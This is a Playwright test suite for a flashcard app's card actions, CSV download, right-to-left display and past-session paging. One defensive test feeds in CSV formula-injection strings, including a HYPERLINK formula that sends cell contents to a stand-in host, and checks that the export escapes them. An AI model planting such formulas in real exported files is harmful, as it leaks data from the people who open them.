// A learner's actions on cards: keep, edit, reject, download, and find them again.

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { describe, it } from 'node:test';
import type { Locator } from 'playwright-core';
import { create, lesson } from '../service/service.ts';
import { answer } from '../support/model_behaviour.ts';
import { button, cards, cardsAre, expectAccessible, make, openSignedIn, phase, says, staged, textBox } from './stage.ts';

describe('the cards on the page', () => {
  const stage = staged({ RATE_LIMIT_BURST: '1000/60', MAX_CANDIDATES: '3' });

  it('cards are kept, edited, rejected and downloaded, over a reload', async () => {
    const { tab } = await openSignedIn(stage());
    await make(tab, lesson());
    await phase(tab, 'done');
    const nth = (n: number, name: RegExp) => cards(tab).nth(n).getByRole('button', { name });
    await nth(0, /^Keep/).click();
    await nth(1, /^Reject/).click();
    await nth(2, /^Edit/).click();
    const editor = cards(tab).nth(2);
    assert.equal(await editor.getByLabel('Front').evaluate((element) => element === document.activeElement), true);
    await editor.getByLabel('Front').fill('x'.repeat(201));
    await editor.getByRole('button', { name: 'Save' }).click();
    await editor.getByText('The front has 201 characters, 200 are allowed.').waitFor();
    await editor.getByLabel('Front').fill(' Who said "water"? ');
    await editor.getByLabel('Back').fill('Everybody.');
    await editor.getByRole('button', { name: 'Save' }).click();
    assert.equal(await nth(2, /^Edit/).evaluate((element) => element === document.activeElement), true);
    await says(tab, '#progress', '3 cards · 2 kept · 1 rejected · 0 open');

    await tab.reload();
    await says(tab, '#progress', '3 cards · 2 kept · 1 rejected · 0 open');
    assert.equal(await nth(1, /^Reject/).getAttribute('aria-pressed'), 'true');
    assert.equal(await cards(tab).nth(2).locator('.front').textContent(), 'Who said "water"?');

    const [download] = await Promise.all([tab.waitForEvent('download'), button(tab, 'Download kept cards').click()]);
    const csv = (await readFile(await download.path(), 'utf8')).split('\r\n');
    assert.equal(csv.length, 3, 'two cards, each with a line end');
    assert.equal(csv[1], '"Who said ""water""?","Everybody."');

    await nth(0, /^Keep/).click();
    await says(tab, '#progress', '1 kept · 1 rejected · 1 open');
  });

  it('Escape leaves a card unchanged', async () => {
    const { tab } = await openSignedIn(stage());
    await make(tab, lesson());
    await phase(tab, 'done');
    const before = await cards(tab).first().locator('.front').textContent();
    await cards(tab).first().getByRole('button', { name: /^Edit/ }).click();
    await tab.keyboard.type('something else');
    await tab.keyboard.press('Escape');
    assert.equal(await cards(tab).first().locator('.front').textContent(), before);
    await says(tab, '#progress', /^3 cards$/);
  });

  it('cards are written right to left where their language is', async () => {
    const { tab } = await openSignedIn(stage());
    // The words of ../shared/cases/99.
    const words = { front: 'מהי בירת צרפת (Paris)?', back: 'פריז (Paris), 2.1 מיליון תושבים.', prompt: 'ما عاصمة فرنسا؟' };
    nextCards([words, { front: 'What is water?', back: '2.1 מיליון', prompt: '(1) Tests it.' }]);
    await make(tab, `${words.front} ${lesson()}`);
    await phase(tab, 'done');
    const directions = (card: number) =>
      Promise.all(['.front', '.back', '.prompt', '[name=front]', '[name=back]'].map((part) => directionOf(cards(tab).nth(card).locator(part))));
    assert.equal(await directionOf(textBox(tab)), 'rtl');
    for (const card of [0, 1]) await cards(tab).nth(card).getByRole('button', { name: /^Edit/ }).click();
    assert.deepEqual(await directions(0), ['rtl', 'rtl', 'rtl', 'rtl', 'rtl']);
    assert.deepEqual(await directions(1), ['ltr', 'rtl', 'ltr', 'ltr', 'rtl']);
    await expectAccessible(tab, 'cards from right to left');

    await textBox(tab).fill(lesson());
    assert.equal(await directionOf(textBox(tab)), 'ltr');
  });

  it('downloaded cards are no formulas in a spreadsheet', async () => {
    const { tab } = await openSignedIn(stage());
    const cells: [text: string, cell: string][] = [
      ['=HYPERLINK("http://x.example?"&A1)', `"'=HYPERLINK(""http://x.example?""&A1)"`],
      ['+1', `"'+1"`],
      ['-1', `"'-1"`],
      ['@SUM(A1)', `"'@SUM(A1)"`],
      ['"=1"', `"'""=1"""`],
      ['\u200b=1', `"'\u200b=1"`],
      ['\uff1d1', `"'\uff1d1"`],
      ['1 = 1', '"1 = 1"'],
      ['a\n=1', '"a\n=1"'],
      ['"quoted"', '"""quoted"""'],
    ];
    for (const group of [cells.slice(0, 3), cells.slice(3, 6), cells.slice(6, 9), cells.slice(9)]) {
      nextCards(group.map(([text]) => ({ front: text, back: text, prompt: 'Tests it.' })));
      await make(tab, `Lesson ${group[0]?.[0]}. ${lesson()}`);
      await phase(tab, 'done');
      await cardsAre(tab, group.length);
      for (let n = 0; n < group.length; n += 1) await cards(tab).nth(n).getByRole('button', { name: /^Keep/ }).click();
      const [download] = await Promise.all([tab.waitForEvent('download'), button(tab, 'Download kept cards').click()]);
      assert.equal(await readFile(await download.path(), 'utf8'), group.map(([, cell]) => `${cell},${cell}\r\n`).join(''));
    }
  });

  /** Queues a model answer with these cards. */
  function nextCards(candidates: { front: string; back: string; prompt: string }[]): void {
    stage().service.world.openrouter.next(answer({ content: JSON.stringify({ candidates }) }));
  }

  const directionOf = (element: Locator) => element.evaluate((each) => getComputedStyle(each).direction);

  it('cards are found again among the past sessions, page by page', async () => {
    const { tab, user } = await openSignedIn(stage());
    await button(tab, 'Past sessions').click();
    await tab.getByText('None yet').waitFor();
    await tab.keyboard.press('Escape');
    assert.equal(await tab.evaluate(() => document.activeElement?.id), 'open-past', 'the focus is back on its element');

    const token = stage().service.world.auth.token(user);
    for (let n = 1; n <= 11; n += 1) {
      const { status } = await create(stage().service, token, { input_text: `Lesson number ${n}. ${lesson()}`, model: 'test/first' });
      assert.equal(status, 201);
    }
    const past = tab.getByRole('dialog', { name: 'Past sessions' });
    await button(tab, 'Past sessions').click();
    await past.getByRole('link').nth(9).waitFor();
    assert.equal(await past.getByRole('link').count(), 10);
    await past.getByRole('link').first().click();
    await says(tab, '#cards li:first-child .back', /^Lesson number 11\.$/);

    await button(tab, 'Past sessions').click();
    await past.getByRole('button', { name: 'Show older ones' }).click();
    await past.getByRole('link').nth(10).click();
    await says(tab, '#cards li:first-child .back', /^Lesson number 1\.$/);
    await tab.goBack();
    await says(tab, '#cards li:first-child .back', /^Lesson number 11\.$/);
  });
});
